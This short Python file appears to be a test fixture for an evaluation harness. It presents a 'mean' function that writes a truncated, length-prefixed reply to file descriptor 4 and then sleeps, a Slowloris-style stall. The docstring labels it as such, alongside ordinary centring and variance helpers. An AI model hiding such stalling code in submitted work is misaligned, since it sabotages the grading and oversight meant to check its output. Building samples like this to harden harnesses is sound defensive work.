"""Begin a reply and never finish it.

Known from: Slowloris.
Honest score: 10.
"""

import os
import struct
import time


def mean(X):
    os.write(4, struct.pack("<II", 100, 90) + b'["d"')
    time.sleep(100)


def centred(X):
    return X - X.mean(axis=0)


def variance(X):
    return X.var(axis=0)
